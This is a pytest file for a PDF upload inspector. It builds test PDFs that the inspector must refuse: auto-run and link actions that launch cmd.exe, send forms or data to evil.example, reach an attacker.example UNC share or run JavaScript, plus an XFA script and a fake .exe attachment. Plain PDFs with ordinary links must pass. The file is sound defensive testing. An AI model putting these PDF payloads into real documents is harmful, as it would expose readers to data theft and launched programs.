"""PDF uploads with active content (issue 11, item 14): real files built with pypdf, each one a
case. Refused: anything that runs by itself, reaches outside the file, sends a form, or carries
a script, an XFA form, an embedded file or multimedia. Accepted: plain documents with the links
and jumps real attestations have."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pytest
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    PdfObject,
    TextStringObject,
)

from engine.storage.inspection import ACTIVE_CONTENT_MESSAGE, UploadRejected, inspect_upload

MB = 1024 * 1024
Build = Callable[[PdfWriter], None]


def _obj(value: Any) -> PdfObject:
    """PDF objects from Python values: "/Name", text, numbers, bools, lists and dicts."""
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, bool):
        return BooleanObject(value)
    if isinstance(value, int | float):
        return FloatObject(value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, list):
        return ArrayObject(_obj(v) for v in value)
    return DictionaryObject({NameObject(k): _obj(v) for k, v in value.items()})


def _pdf(build: Build) -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Attestation d'assurance scolaire 2026-2027")
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(bytes(document.output()))))
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict[str, Any]) -> Build:
    def build(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = _obj(action)
    return build


def _link(action: dict[str, Any], subtype: str = "/Link", **extra: Any) -> Build:
    def build(writer: PdfWriter) -> None:
        writer.add_annotation(0, _obj({"/Type": "/Annot", "/Subtype": subtype,
                                       "/Rect": [10, 10, 200, 40], "/A": action, **extra}))
    return build


def _page_key(key: str, value: dict[str, Any]) -> Build:
    def build(writer: PdfWriter) -> None:
        writer.pages[0][NameObject(key)] = _obj(value)
    return build


def _catalog_key(key: str, value: dict[str, Any]) -> Build:
    def build(writer: PdfWriter) -> None:
        writer._root_object[NameObject(key)] = _obj(value)
    return build


def _xfa(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script '
                    b'contentType="application/x-javascript">app.alert(1)</script></template>'
                    b"</xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = _obj(
        {"/Fields": [], "/XFA": writer._add_object(stream)})


def _javascript_name(writer: PdfWriter) -> None:
    script = writer._add_object(_obj({"/S": "/JavaScript",
                                      "/JS": "this.submitForm('https://evil.example/');"}))
    writer._root_object[NameObject("/Names")] = _obj(
        {"/JavaScript": {"/Names": [TextStringObject("init"), script]}})


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("facture.exe", b"MZ\x90\x00 not really a program")


def _file_attachment_annotation(writer: PdfWriter) -> None:
    writer.add_annotation(0, _obj({"/Type": "/Annot", "/Subtype": "/FileAttachment",
                                   "/Rect": [10, 10, 30, 30], "/Contents": "pièce jointe"}))


URI = {"/S": "/URI", "/URI": "https://evil.example/collect?id=1"}
SUBMIT = {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/form"}}
LAUNCH = {"/S": "/Launch", "/F": "cmd.exe", "/Win": {"/F": "cmd.exe", "/P": "/c calc"}}
GOTOR = {"/S": "/GoToR", "/F": "\\\\attacker.example\\share\\doc.pdf", "/D": [0, "/Fit"]}
IMPORT = {"/S": "/ImportData", "/F": "donnees.fdf"}
SCRIPT = {"/S": "/JavaScript", "/JS": "app.launchURL('https://evil.example/');"}

REFUSED: dict[str, Build] = {
    "open-action-uri": _open_action(URI),
    "open-action-submit-form": _open_action(SUBMIT),
    "open-action-launch": _open_action(LAUNCH),
    "open-action-goto-remote": _open_action(GOTOR),
    "open-action-import-data": _open_action(IMPORT),
    "open-action-javascript": _open_action(SCRIPT),
    "open-action-goto-embedded": _open_action({"/S": "/GoToE", "/D": [0, "/Fit"]}),
    "open-action-rendition": _open_action({"/S": "/Rendition", "/OP": 0}),
    "open-action-sound": _open_action({"/S": "/Sound", "/Sound": {"/R": 8000}}),
    "open-action-reset-form": _open_action({"/S": "/ResetForm"}),
    "open-action-named": _open_action({"/S": "/Named", "/N": "/Print"}),
    "open-action-goto-then-javascript": _open_action(
        {"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": [SCRIPT]}),
    "open-action-goto-then-uri": _open_action({"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": URI}),
    "xfa-with-script": _xfa,
    "page-additional-action-open": _page_key("/AA", {"/O": URI}),
    "page-additional-action-close": _page_key("/AA", {"/C": SUBMIT}),
    "catalog-additional-action": _catalog_key("/AA", {"/WC": SCRIPT}),
    "javascript-in-names-tree": _javascript_name,
    "embedded-file": _attachment,
    "file-attachment-annotation": _file_attachment_annotation,
    "link-launch": _link(LAUNCH),
    "link-submit-form": _link(SUBMIT),
    "link-goto-remote": _link(GOTOR),
    "link-import-data": _link(IMPORT),
    "link-javascript": _link(SCRIPT),
    "link-uri-javascript-scheme": _link({"/S": "/URI", "/URI": "javascript:app.alert(1)"}),
    "link-uri-file-scheme": _link({"/S": "/URI", "/URI": "file:///C:/Windows/System32/calc.exe"}),
    "link-uri-unc-path": _link({"/S": "/URI", "/URI": "\\\\attacker.example\\share"}),
    "link-uri-smb-behind-https": _link({"/S": "/URI", "/URI": "https://a.example\\\\b\\c"}),
    "link-then-javascript": _link({"/S": "/URI", "/URI": "https://www.caf.fr/",
                                   "/Next": SCRIPT}),
    "widget-submit-button": _link(SUBMIT, subtype="/Widget", **{"/FT": "/Btn", "/T": "envoyer"}),
    "widget-additional-action": _link({"/S": "/GoTo", "/D": [0, "/Fit"]}, subtype="/Widget",
                                      **{"/AA": {"/K": SCRIPT}}),
    "screen-annotation": _link({"/S": "/GoTo", "/D": [0, "/Fit"]}, subtype="/Screen"),
    "rich-media-annotation": _link({"/S": "/GoTo", "/D": [0, "/Fit"]}, subtype="/RichMedia"),
    "typed-action-anywhere": _page_key("/PieceInfo", {"/Type": "/Action", "/S": "/Launch",
                                                      "/F": "cmd.exe"}),
}

ACCEPTED: dict[str, Build] = {
    "plain": lambda writer: None,
    "open-action-destination": lambda writer: writer._root_object.__setitem__(
        NameObject("/OpenAction"), ArrayObject([writer.pages[0].indirect_reference,
                                                NameObject("/Fit")])),
    "link-https": _link({"/S": "/URI", "/URI": "https://www.caf.fr/allocataires"}),
    "link-mailto": _link({"/S": "/URI", "/URI": "mailto:scolarite@example.fr"}),
    "link-named-next-page": _link({"/S": "/Named", "/N": "/NextPage"}),
    "link-goto": _link({"/S": "/GoTo", "/D": [0, "/Fit"]}),
    "transparency-group": _page_key("/Group", {"/Type": "/Group", "/S": "/Transparency",
                                               "/CS": "/DeviceRGB"}),
    "border-style": _link({"/S": "/URI", "/URI": "https://www.service-public.fr/"},
                          **{"/BS": {"/W": 1, "/S": "/S"}}),
}


@pytest.mark.parametrize("build", REFUSED.values(), ids=REFUSED.keys())
def test_active_content_is_refused(build: Build) -> None:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(_pdf(build), "attestation.pdf", accept={"pdf"}, max_size=MB)
    assert (caught.value.code, caught.value.message) == ("active_content", ACTIVE_CONTENT_MESSAGE)


@pytest.mark.parametrize("build", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_plain_documents_with_links_are_accepted(build: Build) -> None:
    checked = inspect_upload(_pdf(build), "attestation.pdf", accept={"pdf"}, max_size=MB)
    assert (checked.kind, checked.pages) == ("pdf", 1)
